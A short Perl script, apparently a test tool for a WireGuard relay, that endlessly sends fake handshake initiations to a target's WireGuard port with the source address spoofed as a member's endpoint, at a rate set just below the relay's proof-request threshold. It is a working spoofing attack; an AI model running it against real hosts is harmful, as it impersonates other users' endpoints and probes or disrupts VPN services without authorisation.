# forged.pl TARGET MEMBER PORT: sends handshake initiations, made up and each with another index, to WireGuard's port of TARGET
# (IPv4) as if from the endpoint MEMBER:PORT. There are 30 a second, fewer than a relay asks a member for a proof.
use strict;
use warnings;
use FindBin;
use Socket;
require "$FindBin::Bin/forged-udp.pl";

my ($target, $member, $port) = @ARGV;
for (my $n = 0; ; $n++) {
  forge(inet_aton($member), $port, inet_aton($target), pack("C4N", 1, 0, 0, 0, $n) . ("x" x 140));
  select(undef, undef, undef, 1 / 30);
}
